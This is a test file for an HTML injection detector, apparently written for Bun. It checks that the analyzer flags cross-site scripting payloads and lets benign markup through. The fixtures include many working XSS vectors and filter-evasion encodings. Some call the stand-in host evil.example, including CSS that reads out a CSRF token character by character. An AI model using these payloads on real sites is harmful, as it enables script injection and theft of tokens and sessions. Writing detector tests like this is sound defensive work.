import { describe, expect, test } from "bun:test";
import { htmlAnalyzer } from "../../../src/detect/analyzers/html.ts";
import type { Finding } from "../../../src/detect/analyzers/finding.ts";

const analyze = (text: string) => htmlAnalyzer.analyze({ text, location: "query", path: "query.q", name: "q", kind: "value" });
const top = (text: string) => analyze(text).reduce((m, f) => Math.max(m, f.strength), 0);
const rules = (text: string) => new Set(analyze(text).map((f) => f.rule));
const evidence = (text: string, f: Finding) => text.slice(f.start, f.end);

describe("html analyzer: markup that runs script", () => {
  test.each([
    ["<script>alert(1)</script>", "html.script-tag"],
    ["<ScRiPt/src=https://cdn.example/x.js></sCrIpT/>", "html.script-src"],
    ["<svg/onload=alert(1)>", "html.event-handler"],
    ["<img src=x onerror=alert(1)//", "html.event-handler"],
    ["<details open ontoggle=confirm`1`>", "html.event-handler"],
    ["'><svg/onload=prompt(document.domain)>", "html.event-handler"],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', "html.script-url"],
    ["<IMG SRC=`javascript:alert(1)`>", "html.script-url"],
    ['<div style="width: expression(alert(1))">', "html.css-expression"],
    ["<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "html.srcdoc"],
    ["<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "html.data-url"],
    ['<!--<img src="--><img src=x onerror=alert(1)//">', "html.event-handler"],
    ["<scr\0ipt>alert(1)</script>", "html.script-tag"],
    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />', "html.script-src"],
    ['<set attributeName="onmouseover" to="alert(1)"/>', "html.event-handler"],
  ])("%s", (text, rule) => {
    expect(rules(text).has(rule)).toBe(true);
    expect(top(text)).toBeGreaterThanOrEqual(0.8);
  });

  test("CSS that reads an input's value out of the page (a selector on how the value starts, then a fetch elsewhere); an external-link icon does not", () => {
    for (const v of ["<style>input[name=csrf][value^=a]{background:url(//evil.example/a)}</style>", '<style>input[value$="z"] { background-image: url("https://evil.example/z") }</style>']) {
      expect([v, rules(v).has("html.css-exfiltration"), top(v)]).toEqual([v, true, 0.85]);
    }
    expect(top("<style>a[href^=http]{background:url(//cdn.example/ext.png)}</style>")).toBeLessThan(0.8);
    // A button styled by its label guesses no character.
    expect(top('<style>input[type=submit][value*="Search"]{background:url(https://cdn.example.com/i.png)}</style>')).toBeLessThan(0.8);
  });

  test("a tag name split by a whole tag is read as a filter that deletes the inner tag once leaves it", () => {
    expect(rules("<scr<script>ipt src=https://cdn.example.net/x.js></script>").has("html.script-src")).toBe(true);
    expect(top("<scr<script>ipt src=//evil.example/x.js></scr</script>ipt>")).toBeGreaterThanOrEqual(0.9);
    // Nested markup that splits no name.
    for (const v of ["a<b>c<i>d</i></b>", "<div<span>x</span>", "x<br>y"]) expect(top(v)).toBeLessThan(0.5);
  });

  test("evidence spans point at the construct in the given text", () => {
    const text = "hello <img src=x onerror=alert(1)> bye";
    const f = analyze(text).find((x) => x.rule === "html.event-handler")!;
    expect(evidence(text, f)).toBe("onerror=alert(1)");
    expect(analyze(text).every((x) => x.class === "xss")).toBe(true);
  });

  test("an unknown on-attribute in a tag is weaker than a known event, stronger with script in it", () => {
    expect(top("<b onfoo=bar>")).toBeLessThan(0.8);
    expect(top("<b onfoo=alert(1)>")).toBeGreaterThanOrEqual(0.8);
  });

  test("after a context breakout even a frame or a form is an injection", () => {
    expect(top('<iframe src="https://www.youtube.com/embed/x"></iframe>')).toBeLessThan(0.8);
    expect(top('"><iframe src="https://evil.example/">')).toBeGreaterThanOrEqual(0.8);
  });

  test("a frame or plug-in tag name alone, unclosed and without attributes, is weaker than a tag a browser renders", () => {
    expect(top("<IFRAME")).toBe(0.4);
    expect(top("<iframe>")).toBe(0.55);
    expect(top("<embed src=x.swf>")).toBe(0.8);
  });
});

describe("html analyzer: browsers' tolerance and other readings of markup", () => {
  const tabs = "&Tab;".repeat(40);
  test.each([
    ["<img src=`xx:xx`onerror=alert(1)>", "backtick as a quote (old IE)"],
    ["<img/src=` onerror=alert(1)>", "a backtick that opens an unquoted value"],
    ["<x foo='><img src=x onerror=alert(1)//'>", "markup inside an attribute value"],
    ['<comment><img src="</comment><img src=x onerror=alert(1)//">', "a closer inside a value"],
    ["<svg><style><img src=x onerror=alert(1)></style>", "SVG's style is not raw text"],
    ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "math breakout"],
    ["<custom-el onpointerenter=alert(1)>x", "any tag name with a real event"],
    ['<svg><script href="//evil.example/x.js"/>', "SVG script source"],
    ['<svg><a><animate attributeName="href" values=";javascript:alert(1)"/><text>x</text></a></svg>', "animated link"],
    ['<set attributeName="innerHTML" to="&lt;img src=x onerror=alert(1)&gt;">', "animated markup"],
    ['<meta http-equiv="refresh" content="0;javascript:alert(1)">', "refresh without url="],
    ['<meta http-equiv="refresh" content="0; URL=http://;URL=javascript:alert(1);">', "refresh, last url="],
    [`<iframe src="j${tabs}avascript:alert(1)">`, "a scheme padded past 64 characters"],
    ['<base href="//evil.example/">', "a base elsewhere"],
    ['<embed src="//evil.example/x.swf" allowscriptaccess=always>', "a plug-in"],
    ['<v:vmlframe src="//evil.example/x.vml">', "a VML frame"],
    ['<style type="text/javascript">alert(1)</style>', "JavaScript style sheet"],
    ["<style>@import 'http://evil.example/x.css';</style>", "a remote stylesheet"],
    ['<x style="behavior: url(//evil.example/x.htc)">', "an HTC behavior"],
    [`<a style='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert(1))'>`, "a comment opener inside a CSS string"],
    ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "UTF-7"],
    ["\xbcscript\xbealert(1)\xbc/script\xbe", "US-ASCII with the high bit set"],
    ["\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "full-width brackets"],
  ])("%s (%s)", (text) => {
    expect(top(text)).toBeGreaterThanOrEqual(0.8);
  });

  test.each([
    ['<a title="<b>bold</b>">x</a>'],
    ['<style>@import url("/css/site.css");</style>'],
    ['<v:shape style="behavior:url(#default#VML)">'],
    ['<meta http-equiv="refresh" content="5;url=/next">'],
    ["a 5\xbc inch floppy, \xbclb burger, \xbe done"],
    ["C++ and A+B=C, +ADD-ON pack"],
    ['<img src="a.png" alt="`quoted`">'],
    ["\uff1c\u6ce8\u610f\uff1e please read"],
  ])("benign: %s", (text) => {
    expect(top(text)).toBeLessThan(0.8);
  });
});

describe("html analyzer: other engines' ways to run or load code (IE, XML, WML)", () => {
  test.each([
    ['<?import namespace="x" implementation="http://evil.example/x.htc">', "html.behavior-import"],
    ['<link rel=stylesheet href="data:,*%7bx:expression(write(1))%7d">', "html.css-expression"],
    ['<?xml-stylesheet type="text/css" href="data:,*%7bx:expression(write(2))%7d"?>', "html.css-expression"],
    ['<label dataformatas="html" datasrc="#island" datafld="payload"></label>', "html.data-binding"],
    ['<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">prompt(1)</handler>', "html.script-element"],
    ["<eval>new ActiveXObject('htmlfile').parentWindow.confirm(5)</eval>", "html.script-element"],
    ['<when expr="self.parent.alert(3)"></when>', "html.script-attribute"],
    ['<w:card w:onenterforward="$(v)javascript:alert(1)">', "html.event-handler"],
    ['<IMG SRC="java<!-- x -->script:confirm(1)">', "html.script-url"],
    ['<I><![CDATA[<IMG SRC="jav<![CDATA[ascript:prompt(2);">', "html.script-url"],
    ['<a href="mhtml:http://evil.example/upload.png!page.html">x</a>', "html.data-url"],
    ["<!ATTLIST img onload CDATA 'prompt(9)'>", "html.dtd-handler"],
    ['"><script+src="https://api.example/jsonp?callback=confirm(7)"></script>', "html.script-src"],
    ['<set attributeName="innerHTML" to="&lt;svg&#11;onload&#11;=alert(1)&gt;">', "html.animated-markup"],
    ["&ADw-svg&ACA-onload&AD0-alert(1)&AD4-", "html.charset-markup"],
  ])("%s", (text, rule) => {
    expect(rules(text).has(rule)).toBe(true);
    expect(top(text)).toBeGreaterThanOrEqual(0.6);
  });

  test("the weaker ones stay features, the built-in ones weaker than loaded code", () => {
    expect(top('<import namespace="t" implementation="#default#time2">')).toBeLessThan(0.8);
    expect(top('<listener event="load" handler="#h" observer="x"/>')).toBeLessThan(0.8);
    expect(top('<meta http-equiv="Link" content="<//evil.example/x.css>; rel=stylesheet">')).toBeLessThan(0.8);
  });

  test("look-alikes of these constructs find nothing strong", () => {
    for (const text of [
      '<?xml version="1.0" encoding="UTF-8"?><note><to>Ann</to></note>',
      '<link rel="stylesheet" href="/css/site.css">',
      '<link rel="stylesheet" href="data:text/css,body%7bcolor:red%7d">',
      '<span datasrc="#list" datafld="name"></span>',
      "<eval>1 + 2</eval>",
      "<handler>save()</handler>",
      '<if expr="count > 3">x</if>',
      '<a href="/docs/<!-- note -->">docs</a>',
      "<![CDATA[ plain text ]]>",
      "<!ATTLIST img alt CDATA 'photo'>",
      "a+b<c+d and <em+strong> in prose",
      "R&AD department & ACME",
      "<p>mhtml: files are web archives</p>",
    ]) expect(top(text)).toBeLessThan(0.5);
  });
});

describe("html analyzer: script URLs inside a value", () => {
  test.each([["?url=javascript:alert(1)"], ["a=k:v;m:url(javascript:alert(1))"], ["feed:javascript:alert(document.cookie)"]])("%s", (text) => {
    expect(top(text)).toBeGreaterThanOrEqual(0.8);
  });
  test("a mentioned or no-op script URL is not one", () => {
    expect(top("links like javascript:void(0) do nothing")).toBeLessThan(0.8);
    expect(top("myjavascript:alert(1)")).toBeLessThan(0.8);
  });
});

describe("html analyzer: attribute breakouts without a tag", () => {
  test.each([['" onmouseover="alert(1)'], ["' autofocus onfocus=alert(1) x='"], ["x onerror=alert(1)"], ["' onselect=$.getScript('//evil.example') '"]])("%s", (text) => {
    expect(top(text)).toBeGreaterThanOrEqual(0.8);
    expect(analyze(text).some((f) => f.rule === "html.attr-breakout-handler")).toBe(true);
  });

  // The cheap check before tokenizing must let through every spelling the tokenizer reads as a name.
  test.each([['x" ONERROR="alert(1)'], ['x" o\0nerror="alert(1)'], ["x'/STYLE='x:expression(alert(1))"], ['x" xlin\u212a:href="javascript:alert(1)"']])("name spelled %j", (text) => {
    expect(top(text)).toBeGreaterThanOrEqual(0.85);
  });
});

describe("html analyzer: JavaScript however spelled", () => {
  test.each([
    ["';alert(1)//"],
    ['"-alert(1)-"'],
    ["window['\\x61lert'](1)"],
    ["globalThis['\\u{0061}lert']()"],
    ["self[atob('YWxlcnQ=')](1)"],
    ["top['al'+'ert'](1)"],
    ["Function('alert(1)')()"],
    ["[].constructor.constructor('alert(1)')()"],
    ["\\u0061lert(1)"],
    ["[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"],
    ["javascript:alert(document.cookie)"],
  ])("%s", (text) => {
    expect(top(text)).toBeGreaterThanOrEqual(0.8);
  });

  test("the computed-call evidence covers the receiver through the arguments", () => {
    const text = "x=1;top['al'+'ert'](1)";
    const f = analyze(text).find((x) => x.rule === "html.js-dialog-call")!;
    expect(evidence(text, f)).toBe("top['al'+'ert'](1)");
  });
});

describe("html analyzer: benign look-alikes stay below 0.8", () => {
  test.each([
    ["<p>Hello <b>world</b> and <a href=\"https://example.com/\">a link</a></p>"],
    ['<a href="javascript:void(0)">menu</a>'],
    ["javascript:void(0)"],
    ['{"onClick":"x","statusCode":200,"sessionId":"abc"}'],
    ["a < b and c > d"],
    ["if (a<b) { x = y[0]; }"],
    ["const el = <Button onClick={() => setOpen(true)}>Open</Button>;"],
    ['<div style="color: red; background: url(/img/bg.png)">x</div>'],
    ["<!DOCTYPE html><html><head><script>console.log(1)</script></head><body></body></html>"],
    ["styled.div`color: red`"],
    ["price=(a+b)*2"],
    ["document.cookie"],
    ["Please confirm your location and write to the domain admin (see the import notes) for a prompt reply."],
    ['{"location":"Paris","href":"/x","alert":false,"tags":["a","b"]}'],
    ["' onclick=ok '"],
  ])("%s", (text) => {
    expect(top(text)).toBeLessThan(0.8);
  });

  test("plain words and numbers are not even looked at", () => {
    expect(analyze("hello world 42")).toEqual([]);
  });
});

describe("html analyzer: hostile input", () => {
  test("a megabyte of nested or unclosed markup is judged whole and correctly", () => {
    const tail = "<img src=x onerror=alert(1)>";
    for (const filler of ["<".repeat(500_000), "<a ".repeat(300_000), "'\"".repeat(400_000), "f()".repeat(300_000), "<!--".repeat(250_000), "/".repeat(1_000_000), "[".repeat(1_000_000)]) {
      const f = analyze(`${filler}${tail}`);
      expect(Array.isArray(f)).toBe(true);
    }
    expect(top(`${"a".repeat(1_000_000)} ${tail}`)).toBeGreaterThanOrEqual(0.9);
  });

  test("binary and control characters never throw", () => {
    const junk = Array.from({ length: 5000 }, (_, i) => String.fromCharCode((i * 7919) % 65536)).join("");
    expect(() => analyze(junk)).not.toThrow();
  });
});

describe("html analyzer: a scanner's reflection probe", () => {
  test("both quotes and both angle brackets strung together are a probe, with the run as evidence", () => {
    for (const [text, run] of [["1'kqXbZt<'\">vPmW", "<'\">"], ["x'\"><", "'\"><"], ["\"'<>", "\"'<>"]] as const) {
      const f = analyze(text).find((x) => x.rule === "html.reflection-probe");
      expect([text, f?.strength, f && evidence(text, f)]).toEqual([text, 0.85, run]);
    }
  });

  test("three of the four, the four apart, a character class in code, or prose naming them are not", () => {
    const letter = `Dear support, your form rejects my text. ${"It worked last week. ".repeat(4)}Characters like <>'" are all escaped now.`;
    for (const text of ['class=""><a href="/">', "a < b and 'c' > \"d\"", 'html.replace(/[<>"\']/g, esc)', "s.replace(/[&<>\"']/g, f)", "<<<<>>>>", letter]) {
      expect([text, rules(text).has("html.reflection-probe")]).toEqual([text, false]);
    }
  });
});

describe("html analyzer: hostile lengths", () => {
  test("a javascript: URL of a long run of `;` before code is read once and is no no-op (the trailing-`;` regex retried at each one)", () => {
    expect(rules(`<a href="javascript:${";".repeat(400_000)}!">`).has("html.script-url")).toBe(true);
    expect(rules('<a href="javascript:;;">').has("html.script-url")).toBe(false);
  });
});

describe("html analyzer: DOM clobbering", () => {
  test("an element the document exposes by name, named as one of its methods or properties, shadows it; so does a form control named as its form's DOM property", () => {
    for (const text of ["<img name=getElementById>", "<img id=__proto__ name=src>", '<form name="cookie"></form>', "<embed name=&#99;ookie>", "<form><input name=attributes></form>", "<object id=currentScript>"]) {
      expect([text, rules(text).has("html.dom-clobbering")]).toEqual([text, true]);
    }
    // A cookie banner, a heading's anchor, a form's button, a domain field.
    for (const text of ['<input name="body">', '<div id="constructor-bio">', '<a id="top" href="#">', '<input name="domain">', '<div id="cookie">', '<section id="prototype">', '<h2 id="constructor">', '<input type="checkbox" name="cookie">', '<input name="submit">']) {
      expect([text, rules(text).has("html.dom-clobbering")]).toEqual([text, false]);
    }
  });
});

describe("html analyzer: a script element whose text cannot run", () => {
  test("a <script> tag named in prose, its text no JavaScript, is no script tag; an injected one is, closed or not", () => {
    for (const text of ["Use <script> tags to include JavaScript in HTML pages.", "put a <script> block is how old pages did it", "Use <script> blocks wisely </script> in old pages"]) {
      expect([text, rules(text).has("html.script-tag")]).toEqual([text, false]);
    }
    // A tag quoted in a sentence: its text opens a string the value never closes, so all the rest is text.
    for (const text of ['Your site shows "<script>" text in my profile bio', "it said '<script>' then stopped", 'a "<script>" tag\nand more']) {
      expect([text, rules(text).has("html.script-tag")]).toEqual([text, false]);
    }
    for (const text of ['x <script>alert(1);"abc', 'x <script>"a";alert(1)', "x <script>`${alert(1)}"]) expect([text, rules(text).size > 0]).toEqual([text, true]);
    // A module's text, and an SVG script's with its character references decoded, are scripts too.
    for (const text of ["<script>alert(1)", "<script>", "<script>//", '"><script>x = "abc', "<script>alert`1", "<script>a=1;b=2</script>", "<script><!-- alert(1) --></script>", '<script type=module>import x from "//e.example/x.js"</script>', "<svg><script>alert&#40;1&#41;</script>"]) {
      expect([text, rules(text).has("html.script-tag")]).toEqual([text, true]);
    }
  });

  test("only a bare tag with no markup around its text is judged: where a browser could read the body otherwise, it stays a script tag", () => {
    const quiet = "document.documentElement.dataset.ran=1";
    for (const text of [
      `<!--><script>x="-->";${quiet}</script>`, // a comment a browser ends at once
      `<?x y="><script>x='">';${quiet}</script>`, // a bogus comment that ends at the first >
      '<script x=`a`y="b>' + quiet + '//">Use words here</script>', // an attribute a browser ends elsewhere
      `<script>x="</scripty>";${quiet}</script>`, // no end tag: </scripty> is text
      `<script><!--<script>\nx="</script>";${quiet}</script>`, // an escaped script text
      `<script>${quiet};f()=1</script>`, // V8's run-time error, acorn's early one
      `<svg><script><![CDATA[${quiet}]]></script></svg>`, // XML text
      "<script>Use words here</script>", // a value that opens with the tag
    ]) {
      expect([text, rules(text).has("html.script-tag")]).toEqual([text, true]);
    }
  });
});

describe("html analyzer: a dynamic import of a bare module name", () => {
  test("loads nothing in a page, and is how a Go import block reads", () => {
    for (const v of ['import (\n\t"regexp"\n)', "import('x')"]) expect([v, top(v)]).toEqual([v, 0]);
    for (const v of ["import('//evil.example/x.js')", 'import("data:text/javascript,alert(1)")']) expect([v, top(v) >= 0.5]).toEqual([v, true]);
  });
});
